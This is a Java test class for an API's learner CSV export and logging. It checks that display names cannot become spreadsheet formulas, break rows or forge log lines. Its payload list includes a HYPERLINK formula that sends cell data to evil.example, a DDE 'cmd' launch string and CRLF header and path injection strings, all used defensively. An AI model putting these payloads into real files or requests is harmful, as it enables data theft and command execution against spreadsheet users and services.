package dev.meno.cohort;

import static dev.meno.Api.as;
import static org.assertj.core.api.Assertions.assertThat;

import dev.meno.Api;
import dev.meno.ApiTest;
import io.restassured.RestAssured;
import io.restassured.response.Response;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.logging.SimpleFormatter;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** Promise R28: what a learner is called makes no formula, no row and no log line. */
@ApiTest
class CsvAndLogInjectionTest {
    private static final String FORMULA_STARTS = "=+-@\t\r\n";
    private static final String FORGED = "FORGED-LINE 200 OK";
    private static final List<String> NAMES = List.of(
            "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")",
            "+1+cmd|'/c calc'!A0",
            "-2+3",
            "@SUM(1,2)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "Ada\r\n019ab0c3,=1+1,,ml,1,9,0,100",
            "Ada\n=1+1",
            "say \"cheese\"",
            "\",\"",
            "\"=1+1\"",
            "a,b;c\td",
            "'=1+1",
            "Zoë 😀");

    @Test
    void noCellOfTheAnalyticsIsAFormulaAndNoRowIsTorn() throws IOException {
        String partner = Api.demo("partner");
        String cohort = createCohort(partner, "=A cohort");
        Map<String, String> names = new HashMap<>();
        for (String name : NAMES) {
            String id = register(partner, "learner-" + UUID.randomUUID(), name);
            names.put(id, name);
            enrol(partner, cohort, id);
        }
        // Without a display name the partner's own name stands in the table.
        String external = "=1+1 " + UUID.randomUUID();
        String nameless = as(partner)
                .body(Map.of("externalId", external))
                .post("/v1/learners")
                .then()
                .statusCode(201)
                .extract()
                .path("id");
        names.put(nameless, external);
        enrol(partner, cohort, nameless);

        Response answer =
                as(partner).accept("text/csv").get("/v1/cohorts/{id}/analytics/learners?course=" + Api.COURSE, cohort);

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.contentType()).startsWith("text/csv");
        List<CSVRecord> rows = parse(answer.asByteArray());
        assertThat(rows).isNotEmpty();
        assertThat(rows.getFirst().toMap()).containsKeys("learnerId", "name");
        Map<String, Integer> rowsOf = new HashMap<>();
        for (CSVRecord row : rows) {
            assertThat(row.isConsistent()).as(row.toString()).isTrue();
            rowsOf.merge(row.get("learnerId"), 1, Integer::sum);
            String name = names.get(row.get("learnerId"));
            assertThat(name).as(row.toString()).isNotNull();
            boolean formula = FORMULA_STARTS.indexOf(name.charAt(0)) >= 0;
            assertThat(row.get("name")).isEqualTo(formula ? "'" + name : name);
            row.forEach(
                    cell -> assertThat(isNumber(cell) || cell.isEmpty() || FORMULA_STARTS.indexOf(cell.charAt(0)) < 0)
                            .as("cell %s", cell)
                            .isTrue());
        }
        assertThat(rowsOf.keySet()).isEqualTo(names.keySet());
        assertThat(rowsOf.values()).containsOnly(3);
    }

    @Test
    void theJsonKeepsNamesAsTheyAre() {
        String partner = Api.demo("partner");
        for (String name : NAMES) {
            String id = register(partner, "learner-" + UUID.randomUUID(), name);
            assertThat(as(partner)
                            .get("/v1/learners/{id}", id)
                            .then()
                            .statusCode(200)
                            .extract()
                            .<String>path("displayName"))
                    .isEqualTo(name);
        }
    }

    @Test
    void noRequestForgesALogLine() throws Exception {
        String partner = Api.demo("partner");
        List<String> logged = new ArrayList<>();
        Handler capture = new Capture(logged);
        Logger root = Logger.getLogger("");
        root.addHandler(capture);
        try {
            Logger.getLogger("dev.meno.control").warning("a control\n" + FORGED);
            assertThat(forged(logged)).as("the capture sees what it shall find").hasSize(1);
            logged.clear();

            try (HttpClient client = HttpClient.newHttpClient()) {
                for (String path : List.of(
                        "/v1/sessions/%s",
                        "/v1/courses/%s",
                        "/v1/learners/%s/abilities?course=%s",
                        "/v1/cohorts?limit=%s",
                        "/v1/cohorts?cursor=%s",
                        "/problems/%s",
                        "/%s",
                        "/v1/sessions/x/next-question?%s=1")) {
                    get(client, partner, path.replace("%s", "a%0D%0A" + FORGED.replace(" ", "%20")));
                    get(client, "a%0D%0A", path.replace("%s", "a%0A" + FORGED.replace(" ", "%20")));
                }
            }
            String text = "a\r\n" + FORGED;
            String learner = register(partner, text + UUID.randomUUID(), text);
            String cohort = createCohort(partner, text);
            enrol(partner, cohort, learner);
            for (Map<String, Object> body : List.<Map<String, Object>>of(
                    Map.of("name", text, text, 1),
                    Map.of("name", List.of(text)),
                    Map.of("courseId", text, "mode", text),
                    Map.of("courseId", text, "mode", "practice", "learnerId", learner),
                    Map.of(
                            "courseId",
                            Api.COURSE,
                            "mode",
                            "practice",
                            "learnerId",
                            learner,
                            "domains",
                            List.of(text)))) {
                for (String path : List.of("/v1/cohorts", "/v1/sessions", "/v1/learners")) {
                    assertThat(as(partner).body(body).post(path).statusCode()).isBetween(400, 499);
                }
            }
            for (String header : List.of(
                    "Authorization: Bearer a\n" + FORGED,
                    "Authorization: Bearer a\r" + FORGED,
                    "Idempotency-Key: a\r " + FORGED,
                    "Accept: a\u0085" + FORGED,
                    "Content-Type: a\u2028" + FORGED,
                    "X-Forwarded-For: a\n" + FORGED,
                    "User-Agent: a\0\n" + FORGED,
                    "traceparent: a\n" + FORGED)) {
                raw(
                        "POST /v1/cohorts HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n%s\r\nContent-Length: 0\r\n\r\n"
                                .formatted(header));
            }
        } finally {
            root.removeHandler(capture);
        }
        assertThat(forged(logged)).isEmpty();
    }

    /** Log messages in which the forged text begins a line. */
    private static List<String> forged(List<String> logged) {
        synchronized (logged) {
            return logged.stream()
                    .filter(message -> message.lines().anyMatch(line -> line.startsWith(FORGED)))
                    .toList();
        }
    }

    private static void get(HttpClient client, String token, String path) throws Exception {
        int status = client.send(
                        HttpRequest.newBuilder(URI.create("http://localhost:%d%s".formatted(RestAssured.port, path)))
                                .header("Authorization", "Bearer " + token)
                                .build(),
                        BodyHandlers.ofString())
                .statusCode();
        assertThat(status).as(path).isBetween(400, 499);
    }

    private static void raw(String request) throws IOException {
        try (Socket socket = new Socket("localhost", RestAssured.port);
                InputStream in = socket.getInputStream()) {
            socket.setSoTimeout(60_000);
            socket.getOutputStream().write(request.getBytes(StandardCharsets.UTF_8));
            String answer = new String(in.readAllBytes(), StandardCharsets.UTF_8);
            assertThat(answer).matches("(?s)HTTP/1\\.[01] 4.*");
        }
    }

    private static String createCohort(String partner, String name) {
        return as(partner)
                .body(Map.of("name", name))
                .post("/v1/cohorts")
                .then()
                .statusCode(201)
                .extract()
                .path("id");
    }

    private static String register(String partner, String externalId, String displayName) {
        return as(partner)
                .body(Map.of("externalId", externalId, "displayName", displayName))
                .post("/v1/learners")
                .then()
                .statusCode(201)
                .extract()
                .path("id");
    }

    private static void enrol(String partner, String cohort, String learner) {
        as(partner)
                .put("/v1/cohorts/{id}/learners/{learner}", cohort, learner)
                .then()
                .statusCode(204);
    }

    private static List<CSVRecord> parse(byte[] csv) throws IOException {
        CSVFormat format = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get();
        try (CSVParser parser = CSVParser.parse(new String(csv, StandardCharsets.UTF_8), format)) {
            return parser.getRecords();
        }
    }

    private static boolean isNumber(String cell) {
        return cell.matches("-?[0-9]+(\\.[0-9]+)?(E-?[0-9]+)?");
    }

    /** Keeps what is logged, with the stack traces that go with it. */
    private static final class Capture extends Handler {
        private final List<String> logged;
        private final SimpleFormatter formatter = new SimpleFormatter();

        Capture(List<String> logged) {
            this.logged = logged;
        }

        @Override
        public void publish(LogRecord logRecord) {
            synchronized (logged) {
                logged.add(formatter.format(logRecord));
            }
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    }
}
